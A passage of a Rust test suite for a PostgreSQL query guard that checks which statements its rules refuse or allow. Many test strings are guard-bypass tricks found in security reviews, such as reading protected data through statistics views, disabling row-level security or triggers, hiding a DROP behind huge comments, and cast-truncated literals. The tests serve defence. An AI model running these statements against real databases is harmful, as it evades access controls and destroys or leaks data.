        ("SELECT most_common_vals::text FROM pg_stats WHERE tablename = 'secrets'", "off_limits"),
        ("SELECT last_value FROM pg_sequences", "off_limits"),
        ("SELECT pg_sequence_last_value('hr.pay_id_seq')", "off_limits"),
        ("SELECT pg_catalog.pg_sequence_last_value(c.oid) FROM pg_class c", "off_limits"),
        ("SELECT value FROM secrets", "off_limits"),
        ("SET search_path = hr, public", "off_limits"),
        ("SELECT set_config('search_path', 'hr', false)", "off_limits"),
        ("ALTER TABLE items DROP COLUMN name", "deny_drop"),
        // Both rules refuse a type change; deny_drop is looked at first.
        ("ALTER TABLE items ALTER COLUMN name TYPE text USING 'w'", "deny_drop"),
    ] {
        assert_eq!(rule(sql), Some(expected), "{sql}");
    }
    let update_rule_only = Guardrails {
        deny_update_without_where: true,
        ..Guardrails::default()
    };
    assert_eq!(
        check_rules(
            &update_rule_only,
            &analyze("ALTER TABLE items ALTER COLUMN name TYPE text USING 'w'").facts
        )
        .err()
        .map(|r| r.rule),
        Some("update_without_where")
    );
    for sql in [
        "INSERT INTO items VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET name = excluded.name",
        "MERGE INTO items USING (SELECT 1 AS id) s ON items.id = s.id WHEN MATCHED AND items.id = 1 THEN DELETE",
        "SET search_path = public",
        "SELECT 1 = ANY (SELECT 1)",
        "SELECT pg_sequence_last_value('public.items_id_seq')",
        "SELECT seqstart, seqincrement FROM pg_catalog.pg_sequence",
    ] {
        assert_eq!(rule(sql), None, "{sql}");
    }
    // A temp table named like a catalog is no catalog; the real ones are.
    assert!(!analyze("SELECT * FROM pg_copy").facts.catalog_only);
    assert!(analyze("SELECT * FROM pg_class").facts.catalog_only);
}

#[test]
fn calls_of_the_databases_own_functions_are_opaque_under_rules() {
    let rules = Guardrails {
        deny_delete_without_where: true,
        ..Guardrails::default()
    };
    let own: std::collections::HashSet<String> = ["wipe".to_owned(), "lower".to_owned()].into();
    let verdict = |sql: &str| {
        check_database_functions(&rules, &analyze(sql).facts, &own)
            .err()
            .map(|r| r.rule)
    };
    assert_eq!(
        verdict("SELECT i.wipe FROM items i"),
        Some("opaque_statement")
    );
    assert_eq!(verdict("SELECT lower(1)"), Some("opaque_statement"));
    assert_eq!(verdict("SELECT i.name, upper(i.name) FROM items i"), None);
    // Without rules the database's role is the bound.
    assert!(check_database_functions(
        &Guardrails::default(),
        &analyze("SELECT i.wipe FROM items i").facts,
        &own
    )
    .is_ok());
    // A function renamed during the session is not on the list read at login.
    assert_eq!(
        check_rules(
            &rules,
            &analyze("ALTER FUNCTION wipe(items) RENAME TO tidy").facts
        )
        .err()
        .map(|r| r.rule),
        Some("opaque_statement")
    );
}

/// What `deny_drop` counts as a drop: objects, a column's data, the checks data is held to
/// and rows a table answers for, in every statement form that removes them.
#[test]
fn deny_drop_covers_drops_under_alter() {
    let rules = Guardrails {
        deny_drop: true,
        ..Guardrails::default()
    };
    let check = |sql: &str, refused: bool| {
        let got = check_rules(&rules, &analyze(sql).facts)
            .err()
            .map(|r| r.rule);
        assert_eq!(got, refused.then_some("deny_drop"), "{sql}");
    };
    for sql in [
        "ALTER TABLE items DROP COLUMN name",
        "ALTER TABLE IF EXISTS items DROP COLUMN IF EXISTS name CASCADE",
        "ALTER TABLE items ADD COLUMN x int, DROP COLUMN name",
        "ALTER TABLE ONLY items DROP name",
        "ALTER TABLE items DROP CONSTRAINT items_pkey",
        "ALTER TABLE items ALTER COLUMN name DROP NOT NULL",
        "ALTER TABLE items ALTER COLUMN g DROP EXPRESSION",
        "ALTER TABLE items ALTER COLUMN id DROP IDENTITY",
        "ALTER TABLE parent DETACH PARTITION child",
        "ALTER TABLE child NO INHERIT parent",
        "ALTER FOREIGN TABLE f DROP COLUMN c",
        "ALTER TYPE t DROP ATTRIBUTE a",
        "ALTER DOMAIN d DROP CONSTRAINT positive",
        "ALTER DOMAIN d DROP NOT NULL",
        "DROP OWNED BY eve",
        // A type change rewrites every value (an attack review emptied a column so).
        "ALTER TABLE customers ALTER COLUMN email TYPE text USING ''",
        "ALTER TABLE items ALTER name SET DATA TYPE varchar(3)",
        "ALTER TABLE items ADD COLUMN x int, ALTER COLUMN price TYPE numeric(10, 0)",
        // Checks turned off: triggers, rules, row security, event triggers.
        "ALTER TABLE customers DISABLE TRIGGER USER",
        "ALTER TABLE customers DISABLE TRIGGER ALL",
        "ALTER TABLE customers DISABLE TRIGGER audit_change",
        "ALTER TABLE customers ENABLE REPLICA TRIGGER audit_change",
        "ALTER TABLE customers DISABLE RULE keep",
        "ALTER TABLE customers ENABLE REPLICA RULE keep",
        "ALTER TABLE customers DISABLE ROW LEVEL SECURITY",
        "ALTER TABLE customers NO FORCE ROW LEVEL SECURITY",
        "ALTER EVENT TRIGGER no_drops DISABLE",
        "ALTER EVENT TRIGGER no_drops ENABLE REPLICA",
        // A crash empties an unlogged table, and standbys never get its rows.
        "ALTER TABLE customers SET UNLOGGED",
        // Row security's checks rewritten or widened, a view's check option or barrier
        // changed or its query replaced, a publication's tables dropped.
        "ALTER POLICY wp ON w WITH CHECK (true)",
        "ALTER POLICY p1 ON t1 USING (true) WITH CHECK (true)",
        "ALTER POLICY wp ON w TO sales_read",
        "CREATE POLICY open ON w USING (true)",
        "CREATE POLICY open ON w AS PERMISSIVE FOR SELECT USING (true)",
        "ALTER VIEW wv RESET (check_option)",
        "ALTER VIEW wv SET (check_option = local)",
        "ALTER VIEW wv SET (\"security_barrier\" = false)",
        "ALTER TABLE wv RESET (security_invoker)",
        "CREATE OR REPLACE VIEW wv AS SELECT * FROM w WHERE v < 10",
        "ALTER PUBLICATION pub DROP TABLE w",
        "ALTER PUBLICATION pub SET TABLE other",
        "ALTER PUBLICATION pub SET (publish = '')",
        "ALTER PUBLICATION pub SET (publish = 'insert')",
        // PostgreSQL 18: a constraint kept but no longer checked, or not on the children.
        "ALTER TABLE customers ALTER CONSTRAINT positive NOT ENFORCED",
        "ALTER TABLE customers ALTER CONSTRAINT positive NO INHERIT",
        // Large objects: lo_unlink is their DROP, in SQL and in any spelling of the call.
        "SELECT lo_unlink(424242)",
        "SELECT pg_catalog.lo_unlink(oid) FROM pg_largeobject_metadata",
        "SELECT (424242::oid).lo_unlink",
    ] {
        check(sql, true);
    }
    for sql in [
        "ALTER TABLE items ALTER COLUMN name DROP DEFAULT",
        "ALTER TABLE items ADD COLUMN x int",
        "ALTER TABLE items RENAME COLUMN name TO label",
        "ALTER DOMAIN d DROP DEFAULT",
        "ALTER TABLE customers ENABLE TRIGGER USER",
        "ALTER TABLE customers ENABLE ALWAYS TRIGGER audit_change",
        "ALTER TABLE customers ENABLE ROW LEVEL SECURITY",
        "ALTER TABLE customers FORCE ROW LEVEL SECURITY",
        "ALTER TABLE customers SET LOGGED",
        "CREATE POLICY narrow ON w AS RESTRICTIVE USING (v < 10)",
        "ALTER POLICY wp ON w RENAME TO wp2",
        "CREATE VIEW wv AS SELECT * FROM w WHERE v < 10 WITH CHECK OPTION",
        "ALTER VIEW wv SET (fillfactor = 50)",
        "ALTER TABLE w SET (fillfactor = 70)",
        "ALTER PUBLICATION pub ADD TABLE w",
        "ALTER PUBLICATION pub SET (publish_via_partition_root = true)",
        "REFRESH MATERIALIZED VIEW mv",
        "ALTER TABLE customers ALTER CONSTRAINT positive ENFORCED",
        "ALTER TABLE customers ALTER CONSTRAINT fk DEFERRABLE INITIALLY DEFERRED",
        "ALTER TABLE customers ALTER CONSTRAINT positive INHERIT",
        "ALTER EVENT TRIGGER no_drops ENABLE ALWAYS",
        "ALTER EVENT TRIGGER no_drops ENABLE",
        "SELECT lo_get(424242)",
    ] {
        check(sql, false);
    }
}

/// `lo_truncate` empties a large object: `deny_truncate`'s, in SQL and as a FunctionCall
/// message, as `lo_unlink` by FunctionCall is `deny_drop`'s.
#[test]
fn emptying_or_deleting_a_large_object_counts_for_the_rules() {
    let truncate_only = Guardrails {
        deny_truncate: true,
        ..Guardrails::default()
    };
    let drop_only = Guardrails {
        deny_drop: true,
        ..Guardrails::default()
    };
    let rule = |rules: &Guardrails, facts: &Facts| check_rules(rules, facts).err().map(|r| r.rule);
    for sql in [
        "REFRESH MATERIALIZED VIEW mv WITH NO DATA",
        "SELECT lo_truncate(lo_open(424242, 131072), 0)",
        "SELECT lo_truncate64(lo_open(424242, 131072), 0)",
    ] {
        assert_eq!(
            rule(&truncate_only, &analyze(sql).facts),
            Some("deny_truncate"),
            "{sql}"
        );
        assert_eq!(rule(&drop_only, &analyze(sql).facts), None, "{sql}");
    }
    use crate::wire::ParamValue;
    let int4 = |v: i32| ParamValue::Binary(v.to_be_bytes().to_vec());
    let (_, unlink) = super::function_call_analysis(964, &[int4(424242)]);
    assert_eq!(rule(&drop_only, &unlink.facts), Some("deny_drop"));
    for oid in [1004, 3172] {
        let (_, truncate) = super::function_call_analysis(oid, &[int4(0), int4(0)]);
        assert_eq!(
            rule(&truncate_only, &truncate.facts),
            Some("deny_truncate"),
            "{oid}"
        );
    }
    let (_, read) = super::function_call_analysis(954, &[int4(0), int4(10)]);
    assert_eq!(rule(&drop_only, &read.facts), None);
    assert_eq!(rule(&truncate_only, &read.facts), None);
}

#[test]
fn sql_json_syntax_is_the_call_an_older_server_makes() {
    let rules = Guardrails {
        deny_delete_without_where: true,
        ..Guardrails::default()
    };
    // PostgreSQL 15 reads these as calls of the database's own functions of those names.
    for sql in [
        "SELECT json_scalar(1)",
        "SELECT json_serialize('1')",
        "SELECT json_array(1, 2)",
        "SELECT json_arrayagg(id) FROM items",
        "SELECT json_exists('{}', '$.a')",
        "SELECT json_value('{}', '$.a')",
        "SELECT json_query('{}', '$.a')",
        "SELECT json('1')",
    ] {
        let facts = analyze(sql).facts;
        assert_eq!(
            check_rules(&rules, &facts).err().map(|r| r.rule),
            Some("opaque_statement"),
            "{sql}"
        );
    }
    assert!(check_rules(&rules, &analyze("SELECT json_build_array(1, 2)").facts).is_ok());
}

#[test]
fn a_statement_that_writes_inside_is_recorded_as_the_write() {
    use crate::sql::StatementKind as K;
    for (sql, kind) in [
        ("WITH d AS (DELETE FROM items WHERE id = 1 RETURNING *) SELECT count(*) FROM d", K::Delete),
        ("WITH x AS (INSERT INTO items VALUES (1, 'a') RETURNING 1) SELECT 1", K::Insert),
        ("WITH u AS (UPDATE items SET name = 'b' WHERE id = 1 RETURNING 1) SELECT * FROM u", K::Update),
        (
            "WITH i AS (INSERT INTO items VALUES (2, 'c') RETURNING 1), d AS (DELETE FROM items WHERE id = 3 RETURNING 1) SELECT 1",
            K::Delete,
        ),
        ("SELECT * INTO TEMP tt FROM items", K::Ddl),
        ("MERGE INTO items USING items s ON items.id = s.id WHEN MATCHED THEN DELETE", K::Merge),
        ("EXPLAIN ANALYZE DELETE FROM items WHERE id = 1", K::Delete),
        ("EXPLAIN (ANALYZE) UPDATE items SET name = 'x' WHERE id = 1", K::Update),
        ("EXPLAIN DELETE FROM items WHERE id = 1", K::Other),
        ("COPY (DELETE FROM items WHERE id = 2 RETURNING *) TO STDOUT", K::Delete),
        ("COPY items TO STDOUT", K::Other),
        ("SELECT * FROM items", K::Select),
    ] {
        assert_eq!(analyze(sql).kind, kind, "{sql}");
    }
}

#[test]
fn functions_are_listed_once_each_as_written() {
    let analyses = analyze_query(
        "SELECT lower(a), app.refresh(b), lower(c), count(*) FROM t WHERE upper(d) = 'X'",
    );
    let [one] = &analyses[..] else {
        panic!("one statement: {analyses:?}");
    };
    assert_eq!(
        &one.analysis.facts.functions[..],
        ["lower", "app.refresh", "count", "upper"].map(String::from)
    );
}

#[test]
fn names_are_kept_as_the_server_resolves_them_for_the_record() {
    let analyses =
        analyze_query("SELECT \"Secret\".x, s.leak, (t.c).nextval FROM \"Secret\", secret s, t");
    let [one] = &analyses[..] else {
        panic!("one statement: {analyses:?}");
    };
    let facts = &one.analysis.facts;
    assert_eq!(
        &facts.written_relations[..],
        ["Secret", "secret", "t"].map(String::from)
    );
    // The rules' list is lowercased (their patterns are case-insensitive).
    assert!(facts.relations.iter().all(|r| r == &r.to_lowercase()));
    assert_eq!(
        &facts.fields[..],
        ["x", "leak", "nextval", "c"].map(String::from)
    );
}

#[test]
fn a_drop_names_the_relations_it_drops() {
    let analyses = analyze_query("DROP TABLE hr.payroll, \"Secret\"; DROP FUNCTION f(int)");
    let [table, function] = &analyses[..] else {
        panic!("two statements: {analyses:?}");
    };
    assert_eq!(
        &table.analysis.facts.written_relations[..],
        ["hr.payroll", "Secret"].map(String::from)
    );
    assert!(function.analysis.facts.relations.is_empty());
    // So `off_limits` covers dropping them too.
    let rules = Guardrails {
        off_limits: vec!["hr.*".into()],
        ..Guardrails::default()
    };
    let refused = check_rules(&rules, &table.analysis.facts).expect_err("off limits");
    assert_eq!(refused.rule, "off_limits");
}

fn facts_of(sql: &str) -> Facts {
    let analyses = analyze_query(sql);
    let [one] = &analyses[..] else {
        panic!("one statement: {analyses:?}");
    };
    one.analysis.facts.clone()
}

#[test]
fn a_query_run_from_text_calls_what_it_names() {
    let facts = facts_of("SELECT query_to_xml('select c.leak, lower(x) from customers c where a + b > 0', true, true, '')");
    assert!(facts.maybe_called.iter().any(|n| n == "leak"), "{facts:?}");
    assert!(facts.fields.iter().any(|n| n == "leak"), "{facts:?}");
    assert!(facts.functions.iter().any(|n| n == "lower"), "{facts:?}");
    assert!(facts.operators.iter().any(|n| n == "+"), "{facts:?}");
    let database: std::collections::HashSet<String> = ["leak".to_owned()].into();
    let rules = Guardrails {
        deny_drop: true,
        ..Guardrails::default()
    };
    assert!(check_database_functions(&rules, &facts, &database).is_err());
    // A table named in a string keeps its case as the server resolves it.
    let facts = facts_of("SELECT table_to_xml('\"Secret\"', true, true, '')");
    assert_eq!(&facts.written_relations[..], ["Secret".to_owned()]);
}

#[test]
fn a_database_operator_with_a_built_in_symbol_is_its_function() {
    let facts = facts_of("SELECT name + email FROM customers");
    let rules = Guardrails {
        deny_drop: true,
        ..Guardrails::default()
    };
    let database: std::collections::HashSet<String> = ["operator +".to_owned()].into();
    let refused = check_database_functions(&rules, &facts, &database).expect_err("refused");
    assert_eq!(refused.rule, "opaque_statement");
    assert!(check_database_functions(&rules, &facts, &Default::default()).is_ok());
}

/// The statistics views show every table's values, which matters where something is off
/// limits; they run none of the database's own code, so the other rules leave them to
/// GUI clients' statistics tabs (an attack review found them refused by `deny_drop` alone).
#[test]
fn statistics_views_are_refused_only_where_something_is_off_limits() {
    let reads = [
        "SELECT * FROM pg_stats LIMIT 1",
        "SELECT * FROM pg_catalog.pg_sequences",
        "SELECT * FROM pg_stats_ext",
        "SELECT n_distinct FROM pg_stats s JOIN pg_class c ON c.relname = s.tablename",
    ];
    let every_other_rule = Guardrails {
        deny_drop: true,
        deny_truncate: true,
        deny_delete_without_where: true,
        deny_update_without_where: true,
        ..Guardrails::default()
    };
    let off_limits = Guardrails {
        off_limits: vec!["secret".into()],
        ..Guardrails::default()
    };
    for sql in reads {
        let facts = facts_of(sql);
        assert!(facts.shows_every_tables_values, "{sql}");
        assert!(!facts.catalog_only, "its rows are customer data: {sql}");
        assert!(check_rules(&every_other_rule, &facts).is_ok(), "{sql}");
        let refused = check_rules(&off_limits, &facts).expect_err(sql);
        assert_eq!(refused.rule, "off_limits", "{sql}");
    }
    // A query run from text that reads them is still a read by name: refused under rules.
    let by_text = facts_of("SELECT query_to_xml('SELECT * FROM pg_stats', true, true, '')");
    assert!(by_text.shows_every_tables_values);
    assert!(check_rules(&off_limits, &by_text).is_err());
}

#[test]
fn off_limits_covers_what_drops_or_renames_whole_schemas_and_objects_on_a_table() {
    let rules = Guardrails {
        off_limits: vec!["hr.*".into(), "secret".into()],
        ..Guardrails::default()
    };
    for sql in [
        "DROP SCHEMA hr CASCADE",
        "DROP OWNED BY CURRENT_USER",
        "REASSIGN OWNED BY a TO b",
        "ALTER SCHEMA hr RENAME TO hr2",
        "DROP TRIGGER secret_audit ON secret",
        "DROP POLICY only_id1 ON public.secret",
        "GRANT SELECT ON ALL TABLES IN SCHEMA hr TO public",
        "REVOKE SELECT ON ALL TABLES IN SCHEMA hr FROM public",
        "ALTER DEFAULT PRIVILEGES IN SCHEMA hr GRANT SELECT ON TABLES TO public",
    ] {
        let refused = check_rules(&rules, &facts_of(sql)).expect_err(sql);
        assert_eq!(refused.rule, "off_limits", "{sql}");
    }
    // The extended statistics' definitions hold no values: psql's `\d` and pg_dump read them.
    let definitions = "SELECT stxname FROM pg_catalog.pg_statistic_ext WHERE stxrelid = 16384";
    assert!(check_rules(&rules, &facts_of(definitions)).is_ok());
    for sql in [
        "SELECT * FROM pg_catalog.pg_statistic_ext_data",
        "SELECT * FROM pg_statistic",
        "SELECT * FROM pg_stats_ext",
    ] {
        assert!(check_rules(&rules, &facts_of(sql)).is_err(), "{sql}");
    }
    // A dropped name like the statistics views' is no read of them.
    assert!(check_rules(&rules, &facts_of("DROP TABLE IF EXISTS pg_stats_archive")).is_ok());
    assert!(check_rules(&rules, &facts_of("DROP TRIGGER t ON items")).is_ok());
    assert!(check_rules(&rules, &facts_of("GRANT SELECT ON items TO public")).is_ok());
}

#[test]
fn off_limits_covers_comments_labels_partitions_and_moves_into_a_protected_schema() {
    let rules = Guardrails {
        off_limits: vec!["hr.*".into(), "secret".into()],
        ..Guardrails::default()
    };
    for sql in [
        "COMMENT ON TABLE secret IS 'x'",
        "COMMENT ON COLUMN hr.payroll.salary IS 'x'",
        "COMMENT ON CONSTRAINT secret_pkey ON secret IS 'x'",
        "COMMENT ON TRIGGER t ON hr.payroll IS 'x'",
        "SECURITY LABEL ON TABLE secret IS 'x'",
        "ALTER TABLE ledger DETACH PARTITION hr.ledger_p1",
        "ALTER TABLE ledger ATTACH PARTITION hr.ledger_p1 FOR VALUES IN (1)",
        // Moving a table into a protected schema makes it one of its tables.
        "ALTER TABLE items SET SCHEMA hr",
        // A foreign table on a loopback server reads the table its options name.
        "CREATE FOREIGN TABLE pay (id int) SERVER loop OPTIONS (schema_name 'hr', table_name 'pay')",
        "CREATE FOREIGN TABLE secret (id int) SERVER loop OPTIONS (schema_name 'public')",
        "CREATE FOREIGN TABLE x (id int) SERVER loop OPTIONS (table_name 'secret')",
        "ALTER FOREIGN TABLE x OPTIONS (SET table_name 'secret')",
        "IMPORT FOREIGN SCHEMA public FROM SERVER loop INTO imported",
        "ALTER VIEW v SET SCHEMA hr",
        // CASCADE drops what depends on it, in protected tables too (a column of a domain).
        "DROP DOMAIN money_amount CASCADE",
        "ALTER TYPE address DROP ATTRIBUTE street CASCADE",
        "DROP FUNCTION f() CASCADE",
        "ALTER TABLE items DROP COLUMN id CASCADE",
    ] {
        let refused = check_rules(&rules, &facts_of(sql)).expect_err(sql);
        assert_eq!(refused.rule, "off_limits", "{sql}");
    }
    for sql in [
        "COMMENT ON TABLE items IS 'x'",
        "COMMENT ON COLUMN items.secret IS 'x'",
        "ALTER TABLE items SET SCHEMA archive",
        "COMMENT ON FUNCTION secret() IS 'x'",
        "CREATE FOREIGN TABLE pay (id int) SERVER loop OPTIONS (schema_name 'public', table_name 'pay')",
        "DROP DOMAIN money_amount",
        "TRUNCATE items CASCADE",
    ] {
        assert!(check_rules(&rules, &facts_of(sql)).is_ok(), "{sql}");
    }
}

#[test]
fn implicit_equality_uses_a_databases_own_equals() {
    let rules = Guardrails {
        deny_drop: true,
        ..Guardrails::default()
    };
    let database: std::collections::HashSet<String> = ["operator =".to_owned()].into();
    for sql in [
        "SELECT CASE 'a'::text WHEN 1 THEN 1 END",
        "SELECT 'a'::text IN (SELECT 1)",
        "SELECT 'a'::text NOT IN (SELECT 1)",
        "SELECT ROW('a'::text) IN (SELECT 1)",
        // A join on its common columns compares them with `=` looked up by name.
        "SELECT 1 FROM vt a JOIN vt b USING (v)",
        "SELECT 1 FROM vt a NATURAL JOIN vt b",
        "SELECT 1 FROM vt a LEFT JOIN (VALUES ('a')) b (v) USING (v)",
    ] {
        let refused = check_database_functions(&rules, &facts_of(sql), &database).expect_err(sql);
        assert_eq!(refused.rule, "opaque_statement", "{sql}");
    }
    // A searched CASE, EXISTS and a join on a condition compare nothing by themselves.
    for sql in [
        "SELECT CASE WHEN true THEN 1 END",
        "SELECT EXISTS (SELECT 1)",
        "SELECT 1 FROM vt a JOIN vt b ON true",
        "SELECT 1 FROM vt a CROSS JOIN vt b",
    ] {
        assert!(
            check_database_functions(&rules, &facts_of(sql), &database).is_ok(),
            "{sql}"
        );
    }
}

#[test]
fn a_type_whose_casts_or_checks_run_database_code_is_used_like_a_call() {
    let database: std::collections::HashSet<String> = [type_entry("posint")].into();
    let rules = Guardrails {
        deny_drop: true,
        ..Guardrails::default()
    };
    for sql in [
        "SELECT 7::posint",
        "SELECT CAST(8 AS public.posint[])",
        "SELECT ROW(1)::pg_temp.posint",
        "CREATE TABLE t (a posint)",
    ] {
        let facts = facts_of(sql);
        let refusal = check_database_functions(&rules, &facts, &database).expect_err(sql);
        assert!(
            refusal.message.contains("the type posint"),
            "{sql}: {}",
            refusal.message
        );
    }
    // A type of another name, quoted or not as the catalog stores it, is not that one.
    for sql in ["SELECT 7::int", "SELECT 7::\"Posint\"", "SELECT 7::posint2"] {
        let facts = facts_of(sql);
        assert!(
            check_database_functions(&rules, &facts, &database).is_ok(),
            "{sql}"
        );
    }
}

#[test]
fn an_operator_a_sort_uses_is_the_statements_own() {
    for sql in [
        "SELECT x FROM t ORDER BY x USING <<<<",
        "SELECT array_agg(x ORDER BY x USING OPERATOR(public.<<<<)) FROM t",
        "SELECT rank() OVER (ORDER BY x USING <<<<) FROM t",
    ] {
        let facts = facts_of(sql);
        // Unqualified, it is looked up among the database's operators; qualified with a
        // schema other than pg_catalog, it is a database operator at once.
        let unqualified = facts.operators.iter().any(|o| o == "<<<<");
        assert!(unqualified || facts.opaque.is_some(), "{sql}: {facts:?}");
    }
}

#[test]
fn fetching_from_a_portal_named_by_a_value_is_refused_at_every_level() {
    for sql in [
        "select cursor_to_xml('p', 10, false, false, '')",
        "select pg_catalog.cursor_to_xmlschema(name, false, false, '') from t",
    ] {
        let class = analyze(sql).class;
        assert_eq!(class, Class::Forbidden("unknown_cursor"), "{sql}");
        let refusal = check_class(crate::policy::AccessLevel::Admin, class).expect_err(sql);
        assert!(
            refusal.message.contains("cursor named by a value"),
            "{}",
            refusal.message
        );
    }
    // The functions that read a table named in text are judged as before.
    assert_eq!(
        analyze("select table_to_xml('items', false, false, '')").class,
        Class::Read
    );
}

#[test]
fn a_cast_that_may_change_a_literal_leaves_its_value_unknown() {
    // An attack review had the guard read the literal as written while the server read it
    // cut by the cast: a read grant reached an off-limits schema and table, left read-only
    // mode and changed role.
    let rules = Guardrails {
        off_limits: vec!["hr.*".into(), "secret".into()],
        ..Guardrails::default()
    };
    let refused = |sql: &str| {
        check(AccessLevel::Read, sql).is_err() || check_rules(&rules, &analyze(sql).facts).is_err()
    };
    for sql in [
        "SELECT set_config('search_path_x'::varchar(11), 'hr', false)",
        "SELECT set_config('search_path', 'public, hrx'::varchar(10), false)",
        "SELECT set_config('search_path', 'public, hrx'::char(10), false)",
        "SELECT table_to_xml('secretx'::varchar(6), true, false, '')",
        "SELECT query_to_xml('SELECT * FROM secretx'::varchar(20), true, false, '')",
        "SELECT set_config('default_transaction_read_only_x'::varchar(29), 'off', false)",
        "SELECT set_config('role_'::varchar(4), 'sales_read', false)",
        "SELECT set_config('default_transaction_read_only', 'offx'::bpchar(3), false)",
        "SELECT lo_open(16400, '100000000001000000'::bit(18)::int)",
        "SELECT lo_open(16400, 131072.4::int)",
        "SELECT set_config('search_path', '16407'::regnamespace::text, false)",
        "SELECT set_config('search_path', 'hrx'::pg_temp.text, false)",
        "SELECT set_config('search_path', 'hrx'::public.varchar, false)",
    ] {
        assert!(refused(sql), "{sql}");
    }
    // Casts that keep the text as it is are still looked through.
    for sql in [
        "SELECT set_config('statement_timeout'::pg_catalog.text, '5s'::pg_catalog.varchar, false)",
        "SELECT lo_open(16400, 262144::int4)",
        "SELECT set_config('statement_timeout', '5s'::pg_catalog.text, false)",
    ] {
        assert!(!refused(sql), "{sql}");
    }
    assert!(refused(
        "SELECT set_config('search_path'::text, 'hr', false)"
    ));
}

#[test]
fn what_cannot_be_parsed_is_refused_to_admin_where_rules_must_be_checked() {
    // An attack review dropped a table under deny_drop as admin, behind 1 MiB of comment and
    // behind an alias PostgreSQL 15 reads and this grammar does not.
    let rules = Guardrails {
        deny_drop: true,
        ..Guardrails::default()
    };
    let padded = format!("/*{}*/ DROP TABLE victim", "x".repeat(1 << 20));
    for sql in [
        padded.as_str(),
        "DROP TABLE victim; SELECT 1 FROM customers AS system_user",
    ] {
        let analyses = analyze_query(sql);
        let refusal =
            check_analysis(AccessLevel::Admin, &rules, &analyses[0].analysis).expect_err("refused");
        assert_eq!(refusal.rule, "unparsable");
        assert!(
            check_analysis(
                AccessLevel::Admin,
                &Guardrails::default(),
                &analyses[0].analysis
            )
            .is_ok(),
            "without rules an admin may run it"
        );
    }
}

#[test]
fn a_text_of_too_many_tokens_is_not_parsed() {
    // An attack review had 1 MB of `1,` cost the proxy 3.4 GB in its analysis.
    let many = format!("SELECT {}1", "1,".repeat(MAX_ANALYZED_TOKENS / 2 + 1));
    assert_eq!(analyze_query(&many)[0].analysis.class, Class::Unknown);
    assert_eq!(
        check(AccessLevel::Read, &many).map_err(|r| r.rule),
        Err("unparsable")
    );
    // Fewer are read as ever (an IN list of 10,000 values).
    let list = format!("SELECT * FROM t WHERE id IN ({}1)", "1,".repeat(10_000));
    assert_eq!(analyze_query(&list)[0].analysis.class, Class::Read);
}

#[test]
fn a_large_query_nested_in_a_large_one_is_analysed_not_waited_on() {
    // The nested text is analysed within the outer analysis on the same thread; waiting for
    // the lock the outer one holds hung it, and every large analysis after it.
    let inner = format!("select {}1", "1,".repeat(3000));
    let outer = format!(
        "select query_to_xml('{inner}', true, false, ''), {}2",
        "2,".repeat(3000)
    );
    let (done, finished) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = done.send(analyze_query(&outer)[0].analysis.class);
    });
    let class = finished
        .recv_timeout(std::time::Duration::from_secs(60))
        .expect("the analysis ends");
    assert_ne!(class, Class::Unknown);
    // And the lock is free again for the next one.
    assert_eq!(analyze_query(&inner)[0].analysis.class, Class::Read);
}

/// A fifth review's ways to run the database's own code, or DDL, inside what the guard read
/// as something else.
#[test]
fn code_in_operator_classes_ranges_and_rules_and_select_into_that_writes() {
    let opaque = |sql: &str| analyze(sql).facts.opaque;
    for sql in [
        "CREATE INDEX i ON t (id public.harm_ops)",
        "CREATE TABLE pt (id int) PARTITION BY RANGE (id harm_ops)",
        "ALTER TABLE ex ADD CONSTRAINT ex EXCLUDE USING btree (id public.harm_ops WITH =)",
        "CREATE TYPE harm_range AS RANGE (subtype = int4, subtype_opclass = public.harm_ops)",
        "CREATE SCHEMA s CREATE INDEX i ON t (id harm_ops)",
    ] {
        assert!(opaque(sql).is_some(), "{sql}");
    }
    for sql in [
        "CREATE INDEX i ON t (id)",
        "CREATE TABLE pt (id int) PARTITION BY RANGE (id)",
    ] {
        assert_eq!(opaque(sql), None, "{sql}");
    }
    assert_eq!(
        class("CREATE RULE \"_RETURN\" AS ON SELECT TO vs2 DO INSTEAD SELECT * FROM pg_catalog.pg_settings"),
        Class::Forbidden("lexer_setting")
    );
    assert_eq!(
        analyze("WITH i AS (INSERT INTO log VALUES ('x') RETURNING *) SELECT * INTO t FROM i").kind,
        StatementKind::Ddl
    );
    // Planning an INSERT evaluates its immutable defaults: an EXPLAIN's relations count as
    // written.
    let links = [RelationLink {
        kind: LinkKind::OnWrite,
        from: "public.dflt".into(),
        to: RelationLink::function("public", "imm_harm"),
    }];
    let rules = Guardrails {
        deny_drop: true,
        ..Guardrails::default()
    };
    let reach = CatalogReach::new(&rules, &links);
    let refusal = check_reach(&reach, &analyze("EXPLAIN INSERT INTO dflt (id) VALUES (1)"))
        .expect_err("the default's function");
    assert_eq!(refusal.rule, "opaque_statement");
    assert!(check_reach(&reach, &analyze("SELECT * FROM dflt")).is_ok());
}

/// A schema off limits as a whole covers every object in it and every statement that puts
/// one there, whatever its kind; a column or alias spelled like the schema is no use of it.
#[test]
fn every_object_of_an_off_limits_schema_is_off_limits() {
    let rules = Guardrails {
        off_limits: vec!["hr.*".into()],
        ..Guardrails::default()
    };
    let rule = |sql: &str| rule_refusing(&rules, sql);
    for sql in [
        "create function hr.f() returns int language sql as 'select 1'",
        "alter function public.f() set schema hr",
        "alter extension e set schema hr",
        "create domain hr.d as int",
        "create schema hr",
        "create schema if not exists HR",
        "comment on function hr.f() is 'x'",
        "drop function hr.f()",
        "drop function public.g(), hr.f()",
        "alter function hr.f() owner to x",
        "alter function hr.f() security definer",
        "grant execute on function hr.f() to public",
        "create conversion hr.c for 'LATIN1' to 'UTF8' from iso8859_1_to_utf8",
        "create statistics hr.s on a, b from t",
        "create extension foo schema hr",
        "select 1::hr.d",
        "select cast(1 as \"hr\".d)",
        "select 1 operator(hr.===) 2",
        "create table public.t3 (a hr.d)",
        "select mydb.hr.f()",
        "security label on function hr.f() is 'x'",
        "create publication p for tables in schema hr",
        "alter operator family hr.f using btree add operator 1 <(int,int)",
        "create index on t (a hr.ops)",
        "select a from t order by a collate hr.c",
        // Functions that write the index named in their first argument.
        "select brin_summarize_new_values('hr.pay_brin')",
        "select brin_summarize_range('hr.pay_brin', 0)",
        "select brin_desummarize_range('\"hr\".pay_brin', 0)",
        "select gin_clean_pending_list('hr.pay_gin'::regclass)",
        "select gin_clean_pending_list(16400)",
        // Text search objects named in strings.
        "select to_tsvector('hr.cfg', 'x')",
        "select websearch_to_tsquery('hr.cfg', 'x')",
        "select ts_lexize('\"HR\".dict', 'x')",
        "select to_tsvector('hr.cfg'::regconfig, 'x')",
